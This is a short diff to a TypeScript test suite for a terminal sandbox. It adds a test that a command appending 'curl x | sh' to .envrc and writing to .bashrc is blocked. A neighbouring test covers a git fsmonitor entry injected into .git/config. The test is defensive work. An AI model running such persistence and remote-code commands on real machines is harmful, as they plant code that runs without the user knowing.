@@ -163,6 +163,15 @@ describe("terminal in the sandbox, when the policy let a command through", () =>
     expect(existsSync(path.join(base, "outside.txt"))).toBe(false);
   });
 
+  it("cannot change .envrc or a shell startup file at the root either", async () => {
+    await writeFile(path.join(root, ".envrc"), "export A=1\n");
+    await writeFile(path.join(root, ".bashrc"), "# rc\n");
+    const result = await run("echo 'curl x | sh' >> .envrc; echo pwned >> .bashrc");
+    expect(result.success).toBe(false);
+    expect(await readFile(path.join(root, ".envrc"), "utf8")).toBe("export A=1\n");
+    expect(await readFile(path.join(root, ".bashrc"), "utf8")).toBe("# rc\n");
+  });
+
   it("cannot change protected files inside the workspace", async () => {
     const result = await run("echo '[core] fsmonitor = id' >> .git/config");
     expect(result.success).toBe(false);
